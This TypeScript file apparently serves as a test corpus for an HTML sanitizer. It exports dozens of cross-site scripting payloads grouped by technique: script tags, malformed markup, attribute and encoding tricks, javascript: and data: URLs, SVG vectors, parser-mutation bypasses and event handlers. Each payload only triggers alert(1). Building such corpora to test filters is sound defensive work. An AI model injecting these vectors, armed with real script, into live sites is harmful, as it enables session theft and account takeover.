/** Samples of markup that executes script, by technique. Each vector calls `alert(1)` without a network. */
const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\t>alert(1)</script\t>',
  '<script type=text/javascript>alert(1)</script>',
  '<script language="javascript">alert(1)</script>',
  '<script src=data:,alert(1)></script>',
  '<script async src="data:,alert(1)"></script>',
  '<script>/*<!--*/alert(1)/*-->*/</script>',
  '<script>alert`1`</script>',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',
]

const brokenMarkup = [
  '<<script>alert(1)//<</script>',
  '</p><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<script>alert(1)</script',
  '<img src=x onerror=alert(1)//',
  '<"<img src=x onerror=alert(1)>',
  '<p title=`><img src=x onerror=alert(1)>`>',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
]

const attributeTricks = [
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x/onerror=alert(1)>',
  '<img src=x onerror=&#x61;lert(1)>',
  '<img src=x onerror=alert&#40;1&#41;>',
  '<img src=x onerror=alert`1`>',
  '<img src onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p onclick="alert(1)" title="a>b">x</p>',
  '<span style="background:url(javascript:alert(1))">x</span>',
]

const schemes = [
  'javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'java&Tab;script:alert(1)',
  '&#14; javascript:alert(1)',
  'javascript:%61lert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html,<script>alert(1)</script>',
].map((href) => `<a href="${href.replace(/"/g, '&quot;')}">x</a>`)

const foreignContent = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><animateTransform onbegin=alert(1) attributeName=transform>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
]

const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<b><p></b><script>alert(1)</script>',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
]

const loadedElsewhere = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<frameset onload=alert(1)><frame></frameset>',
  '<object type="text/x-scriptlet" data="data:,x"></object>',
  '<fencedframe src="javascript:alert(1)"></fencedframe>',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '<button popovertarget=x onclick=alert(1)>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>',
  '<video src=x onerror=alert(1)></video>',
  '<image src=x onerror=alert(1)>',
]

/** Every event of the HTML standard with a handler attribute, on an element that editors may use. */
const handlers = [
  ...['abort', 'animationend', 'animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforecut'],
  ...['beforeinput', 'beforematch', 'beforepaste', 'beforetoggle', 'beforexrselect', 'blur', 'cancel', 'canplay'],
  ...['change', 'click', 'close', 'contentvisibilityautostatechange', 'contextmenu', 'copy', 'cuechange', 'cut'],
  ...['dblclick', 'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop', 'error', 'focus'],
  ...['focusin', 'focusout', 'formdata', 'fullscreenchange', 'gotpointercapture', 'input', 'invalid', 'keydown'],
  ...['keypress', 'keyup', 'load', 'loadstart', 'lostpointercapture', 'mousedown', 'mouseenter', 'mouseleave'],
  ...['mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'paste', 'pointercancel', 'pointerdown'],
  ...['pointerenter', 'pointerleave', 'pointermove', 'pointerout', 'pointerover', 'pointerup', 'progress', 'reset'],
  ...['resize', 'scroll', 'scrollend', 'scrollsnapchange', 'search', 'securitypolicyviolation', 'select'],
  ...['selectionchange', 'selectstart', 'submit', 'toggle', 'touchcancel', 'touchend', 'touchmove', 'touchstart'],
  ...['transitioncancel', 'transitionend', 'transitionrun', 'transitionstart', 'webkitanimationend', 'wheel'],
].map((event) => `<p tabindex=0 on${event}=alert(1)>x</p>`)

export const XSS_VECTORS: Readonly<Record<string, readonly string[]>> = {
  scripts,
  brokenMarkup,
  attributeTricks,
  schemes,
  foreignContent,
  mutation,
  loadedElsewhere,
  handlers,
}
